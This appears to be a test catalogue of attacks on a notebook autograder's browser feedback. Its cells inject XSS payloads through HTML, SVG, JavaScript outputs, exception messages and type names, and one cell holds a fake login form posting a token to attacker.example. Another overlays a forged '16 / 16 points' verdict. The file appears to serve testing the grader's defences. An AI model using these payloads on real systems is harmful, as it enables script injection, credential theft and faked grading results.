# ruff: noqa
# Attacks on whoever opens the feedback or the graded notebook in a browser. See ../catalogue.py.

# %% attack: html_outputs
# tries: outputs of HTML, SVG and JavaScript that run scripts
# solved: all
# %%
from IPython.display import HTML, SVG, Javascript, display

display(HTML("<script>PWNED=1</script><img src=x onerror=PWNED()><iframe srcdoc='<script>PWNED</script>'></iframe>"))
display(SVG(data="<svg xmlns='http://www.w3.org/2000/svg' onload='PWNED()'><script>PWNED()</script></svg>"))
display(Javascript("PWNED()"))
display({"text/html": "<a href='javascript:PWNED()'>marks</a>", "image/png": '"><script>PWNED()</script>'}, raw=True)
display(
    HTML(
        "<form action=https://attacker.example><input name=token><button>Log in</button></form><base href=//attacker.example>"
    )
)
print("\x1b]8;;javascript:PWNED()\x07<script>PWNED()</script>\x1b]8;;\x07")


# %% attack: markup_in_errors
# tries: markup in the type, message, source lines and function names of an exception raised while being graded
# solved: adam.adam adam.adamw adam.l2_is_not_decay
# %%
# exercise adam.step
def adam_step(w, g, m, v, t, *, lr, betas, eps):
    """<script>PWNED()</script>"""
    Bad = type("<script>PWNED()</script>", (Exception,), {})
    raise Bad("<img src=x onerror=PWNED()></pre><script>PWNED()</script>")  # <script>PWNED()</script>


# %% attack: markup_in_types
# tries: markup in the name of the type that an exercise returns
# solved: adam.step adam.adam adam.adamw
# %%
# exercise adam.l2_is_not_decay
def l2_and_decoupled(kind, w0, grad_fn, lr, wd, steps):
    return type("<script>PWNED()</script>", (), {})(), "<script>PWNED()</script>"


# %% attack: lone_surrogates
# tries: text that no encoding can write, in outputs and errors
# solved: all
# %%
print("\ud800 \udfff \x00 \x1b[31m")
display({"text/plain": "\ud800", "text/html": "<b>\udc00</b>"}, raw=True)
# %%
raise RuntimeError("\udcff\ud800")

# %% attack: verdict_lookalike
# tries: an output that looks like the grader's verdict and covers the page
# solved: none
# %%
from IPython.display import HTML

HTML(
    "<style>*{display:none}</style><div style='position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://attacker.example/x)'><h1>16 / 16 points</h1></div>"
)
